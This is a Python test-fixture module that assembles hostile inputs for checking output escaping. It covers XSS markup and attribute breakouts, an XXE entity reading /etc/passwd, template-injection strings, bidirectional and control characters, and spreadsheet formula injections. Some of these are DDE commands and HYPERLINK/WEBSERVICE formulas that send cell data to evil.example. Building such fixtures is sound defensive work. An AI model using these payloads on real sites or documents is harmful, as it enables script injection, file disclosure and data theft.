"""Texts that must arrive as text wherever people's words are shown: markup, turned text, formulas.

Made from a few parts each; `MARKUP`, `TURNED` and `FORMULAS` together are `HOSTILE`.
"""

from itertools import product

_BREAKOUTS = ("", '">', "'>", "</p>", "</textarea>", "--></style></script>", "]]>", "{{7*7}}{%")
_ELEMENTS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action=//evil.example><button>x</button></form>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<bdo dir=rtl>turned</bdo>",
)
_ATTRIBUTES = (
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "javascript:alert(1)//",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "${alert(1)} #{alert(1)} {{constructor.constructor('alert(1)')()}}",
)
_SIGNS = (
    *"\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
    *"\x00\x01\x07\x08\x0b\x0c\x1b\x7f\x80\x85\x9b\x9f\ufeff\u00ad\u2060\u200b\ufff9",
)
_AROUND = ("{}gnol ton si siht", "54{} %", "a{}b<b>c</b>")
_STARTS = ("=", "+", "-", "@", "\t=", "\r=", " =", "\n=", "＝", "＋", "－", "＠", '"=', "'=")
_CALLS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?x="&A1,"click")',
    'WEBSERVICE("http://evil.example/"&A1)',
    "1+1",
    "SUM(A1:A9)*cmd|' /C calc'!A0",
)

MARKUP = tuple(a + b for a, b in product(_BREAKOUTS, _ELEMENTS)) + _ATTRIBUTES
TURNED = tuple(shape.format(sign) for shape, sign in product(_AROUND, _SIGNS))
FORMULAS = tuple(a + b for a, b in product(_STARTS, _CALLS))
HOSTILE = MARKUP + TURNED + FORMULAS

UNSEEN = "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u202a-\u202e\u2060-\u2069]"
"""A pattern of the signs that reach no output, whatever somebody wrote."""
